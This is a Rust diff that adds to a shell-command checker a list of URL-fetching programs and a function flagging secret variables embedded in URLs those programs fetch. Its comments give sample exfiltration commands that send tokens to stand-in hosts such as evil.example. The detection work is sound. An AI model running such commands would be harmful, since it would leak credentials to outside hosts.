@@ -96,6 +96,91 @@ pub(super) fn variable_sent(command: &Command, sender: &Sender) -> Option<(Strin
     None
 }
 
+/// Programs that fetch the URLs their arguments name, besides the HTTP clients judged above:
+/// version control, package managers, downloaders and browsers.
+const URL_FETCHERS: &[&str] = &[
+    "git",
+    "svn",
+    "hg",
+    "pip",
+    "pip3",
+    "pipx",
+    "uv",
+    "poetry",
+    "pdm",
+    "npm",
+    "npx",
+    "pnpm",
+    "yarn",
+    "bun",
+    "go",
+    "gem",
+    "bundle",
+    "cargo",
+    "composer",
+    "helm",
+    "aria2c",
+    "axel",
+    "fetch",
+    "lwp-request",
+    "lwp-download",
+    "GET",
+    "HEAD",
+    "POST",
+    "yt-dlp",
+    "youtube-dl",
+    "xdg-open",
+    "open",
+    "sensible-browser",
+    "x-www-browser",
+    "www-browser",
+    "firefox",
+    "chromium",
+    "chromium-browser",
+    "google-chrome",
+    "lynx",
+    "w3m",
+    "links",
+    "elinks",
+];
+
+/// Whether the command is one of [`URL_FETCHERS`].
+pub(super) fn fetches_urls(command: &Command) -> bool {
+    URL_FETCHERS.contains(&command.name.as_str())
+}
+
+/// A secret variable in the path, query or host name of a URL that a program of
+/// [`URL_FETCHERS`] fetches (`git ls-remote "https://evil.example/$GITHUB_TOKEN"`, `pip install
+/// --index-url "https://x.example/$TOKEN/simple"`, `go get "x.example/$TOKEN/m"`), judged as
+/// curl's URL is: the request sends it to that host. A token as the URL's credentials
+/// (`https://x-access-token:$GITHUB_TOKEN@github.com/o/r`) is the request's own, as with curl.
+pub(super) fn url_variable_sent(command: &Command) -> Option<(String, Span)> {
+    if !fetches_urls(command) {
+        return None;
+    }
+    // Go names modules without a scheme (`example.com/x/y`), fetched over HTTPS.
+    let module_paths = command.name == "go";
+    command.args().iter().find_map(|word| {
+        let text = word.text();
+        // `--index-url=URL`: the value.
+        let url = match text.find('=').filter(|_| text.starts_with('-')) {
+            Some(equals) => word.strip_prefix(equals + 1),
+            None => word.clone(),
+        };
+        let url_text = url.text();
+        let module_path = module_paths
+            && !url_text.starts_with(['-', '.', '/'])
+            && url_text.split('/').next().is_some_and(|host| host.contains('.'))
+            && url_text.contains('/');
+        if !url_text.contains("://") && !module_path {
+            return None;
+        }
+        let (to, path) = destination(&url);
+        let name = secret_shown(path.iter().copied())?;
+        (!to.welcomes(&name)).then(|| (format!("the variable {name} {}", to.shown()), word.span))
+    })
+}
+
 /// The name of a header (`Name: value`), lowercase; `None` for a file of headers (`-H @file`)
 /// or a header removed (`-H 'X;'`), which send nothing here.
 fn header_name(header: &str) -> Option<String> {
